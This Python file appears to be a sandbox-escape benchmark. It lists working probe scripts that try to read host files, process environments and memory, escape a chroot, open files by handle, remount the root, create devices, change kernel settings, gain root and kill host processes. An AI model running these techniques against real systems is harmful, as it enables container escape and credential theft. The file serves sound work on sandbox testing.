"""Attacks on the host's files, processes and secrets."""

from __future__ import annotations

from benchmarks.attacks.attack import Attack

# Only the bait is shown of what is found, whatever else lies there.
_LOOK = """
def only_bait(data):
    at = data.find(b"ACRISOL_BAIT=")
    if at >= 0: os.write(1, data[at : at + 100])
def show(path):
    try:
        with open(path, "rb") as file: only_bait(file.read(2**16))
    except OSError: pass
# Process 1 is an attacker's to look at where it is the sandbox's own.
ABOVE = {os.getppid(), 1} if os.getppid() < 10 else {os.getppid()}
"""

FILES = (
    Attack("reading a host file", _LOOK + "\nshow(BAIT['file'])"),
    Attack(
        "reading a host file through /proc/1/root",
        _LOOK + "\nshow('/proc/1/root' + BAIT['file'])",
        unproven="this machine's process 1 may have another root",
    ),
    Attack(
        "reading a host file through every /proc/PID/root and cwd",
        _LOOK
        + """
for pid in filter(str.isdigit, os.listdir("/proc")):
    for way in ("root", "cwd"): show(f"/proc/{pid}/{way}{BAIT['file']}")
""",
    ),
    Attack(
        "reading the password file and root's home",
        """
        for path in ("/etc/shadow", "/etc/ssh/sshd_config"):
            try:
                with open(path, "rb") as file:
                    if file.read(1): print("GOT", path)
            except OSError: pass
        for path in ("/root", "/home", "/var/lib", "/var/run", "/sys/class/net"):
            try:
                if [name for name in os.listdir(path) if name not in ("lo", "dpkg")]: print("GOT", path)
            except OSError: pass
        """,
    ),
    Attack("reading /proc/1/environ", _LOOK + "\nfor pid in ABOVE: show(f'/proc/{pid}/environ')"),
    Attack(
        "reading every /proc/PID/environ",
        _LOOK + "\nfor pid in filter(str.isdigit, os.listdir('/proc')): show(f'/proc/{pid}/environ')",
    ),
    Attack("reading its own environment", "print(os.environ.get('ACRISOL_BAIT'))"),
    Attack(
        "reading inherited descriptors",
        _LOOK
        + """
for number in range(3, 400):
    try: only_bait(os.pread(number, 200, 0))
    except OSError: pass
""",
    ),
    Attack(
        "reading descriptors of the processes above",
        _LOOK
        + """
for pid in ABOVE:
    try: names = os.listdir(f"/proc/{pid}/fd")
    except OSError: continue
    for name in names:
        try:
            descriptor = os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
            only_bait(os.read(descriptor, 4000))
        except OSError: pass
""",
    ),
    Attack(
        "reading a host process's memory",
        _LOOK
        + """
for pid in (BAIT["victim"], *ABOVE):
    try:
        for line in open(f"/proc/{pid}/maps"):
            if "[stack]" in line:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                with open(f"/proc/{pid}/mem", "rb") as memory:
                    memory.seek(low); only_bait(memory.read(high - low))
    except OSError: pass
""",
    ),
    Attack(
        "killing a host process",
        "import signal\ntry: os.kill(BAIT['victim'], signal.SIGKILL)\nexcept OSError: pass",
    ),
    Attack(
        "leaving a chroot",
        """
        try:
            os.mkdir("below"); os.chroot("below")
            os.chdir("../" * 40); os.chroot(".")
            print("GOT out", os.listdir("/")[:3])
        except OSError: pass
        """,
    ),
    Attack(
        "opening files by handle",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        class Handle(ctypes.Structure): _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int),
                                                     ("data", ctypes.c_ubyte * 128)]
        for path in (b"/", b"/usr", b"/tmp", b"/etc"):
            handle, mount = Handle(128), ctypes.c_int()
            if libc.name_to_handle_at(-100, path, ctypes.byref(handle), ctypes.byref(mount), 0): continue
            where = os.open(path, os.O_RDONLY)
            if libc.open_by_handle_at(where, ctypes.byref(handle), os.O_RDONLY) >= 0: print("GOT", path)
        """,
    ),
    Attack(
        "writing to the read-only root",
        """
        for path in BAIT["made"]:
            try:
                with open(path, "w") as file: file.write("x")
                print("GOT", path)
            except OSError: pass
        """,
    ),
    Attack(
        "changing the interpreter's library",
        """
        import shutil
        try: open(shutil.__file__, "r+b").close(); print("GOT", shutil.__file__)
        except OSError: pass
        """,
    ),
    Attack(
        "making the root writable",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for path in (b"/", b"/usr", b"/etc"):
            if libc.mount(b"none", path, None, 32 | 4096, None) == 0: print("GOT", path)
        """,
        unproven="/usr and /etc are mounts of their own only in a sandbox",
    ),
    Attack(
        "changing an input after it was checked",
        "open(BAIT['input'], 'ab').write(b'changed')",
    ),
    Attack(
        "changing an input through a race of links",
        """
        import threading, time
        def swap():
            for _ in range(2000):
                try:
                    os.symlink(BAIT["input"], "input.new"); os.rename("input.new", "input")
                except OSError: pass
        thread = threading.Thread(target=swap); thread.start()
        for _ in range(2000):
            try: open("input", "ab").write(b"x")
            except OSError: pass
        thread.join()
        """,
    ),
    Attack(
        "making device nodes",
        """
        import stat
        for kind, number in ((stat.S_IFCHR, (1, 1)), (stat.S_IFBLK, (254, 0)), (stat.S_IFBLK, (8, 0))):
            try: os.mknod("device", kind | 0o666, os.makedev(*number)); print("GOT", number)
            except OSError: continue
            os.unlink("device")
        """,
        is_granted_by_gvisor=True,
    ),
    Attack(
        "reading devices",
        """
        import stat
        harmless = {(1, 3), (1, 5), (1, 7), (1, 8), (1, 9)}
        for folder, _, names in os.walk("/dev"):
            for name in names:
                path = os.path.join(folder, name)
                found = os.lstat(path)
                number = (os.major(found.st_rdev), os.minor(found.st_rdev))
                is_memory = stat.S_ISCHR(found.st_mode) and number[0] == 1 and number not in harmless
                if not is_memory and not stat.S_ISBLK(found.st_mode): continue
                try: os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK)); print("GOT", path)
                except OSError: pass
        """,
    ),
    Attack(
        "reading the kernel's memory and messages",
        """
        for name in ("kcore", "keys", "timer_list", "sched_debug"):
            try: data = os.read(os.open(f"/proc/{name}", os.O_RDONLY | os.O_NONBLOCK), 64)
            except OSError: continue
            if data: print("GOT", name)
        """,
    ),
    Attack(
        "changing kernel settings",
        """
        for name in ("kernel/core_pattern", "kernel/modprobe", "vm/overcommit_memory", "kernel/hostname"):
            try: open(f"/proc/sys/{name}", "r+b").close(); print("GOT", name)
            except OSError: pass
        try: open("/proc/sysrq-trigger", "wb").close(); print("GOT sysrq")
        except OSError: pass
        """,
    ),
    Attack(
        "gaining root through set-user-id programs",
        """
        import glob, stat, subprocess
        for path in glob.glob("/usr/bin/*") + glob.glob("/usr/sbin/*"):
            try: mode = os.stat(path).st_mode
            except OSError: continue
            if stat.S_ISREG(mode) and mode & stat.S_ISUID and os.path.basename(path) in ("su", "sudo"):
                words = [path, "-c", "id"] if path.endswith("su") else [path, "-n", "id"]
                said = subprocess.run(words, capture_output=True, stdin=subprocess.DEVNULL, timeout=3)
                if b"uid=0" in said.stdout: print("GOT root by", path)
        """,
    ),
    Attack(
        "becoming another user",
        """
        for number in (0, 1, 1000):
            try: os.setuid(number); print("GOT", number); break
            except OSError: pass
        """,
    ),
    Attack("reading the host's /dev/shm", _LOOK + "\nshow(BAIT['shared'])"),
    Attack(
        "attaching the host's shared memory",
        """
        import ctypes
        if ctypes.CDLL(None).shmget(BAIT["key"], 0, 0) >= 0: print("GOT the segment")
        """,
    ),
    Attack(
        "opening the host's message queue",
        """
        import ctypes
        if ctypes.CDLL(None).msgget(BAIT["key"], 0) >= 0: print("GOT the queue")
        """,
    ),
    Attack(
        "filling /dev/mqueue",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        made, size = 0, (ctypes.c_long * 4)(0, 1, 8, 0)
        for number in range(100):
            name = f"/{BAIT['marker']}-{number}".encode()
            if libc.mq_open(name, os.O_CREAT | os.O_RDWR, 0o600, size) >= 0:
                made += 1; libc.mq_unlink(name)
        if made >= 50: print("GOT", made, "queues")
        """,
        is_granted_by_gvisor=True,
    ),
)
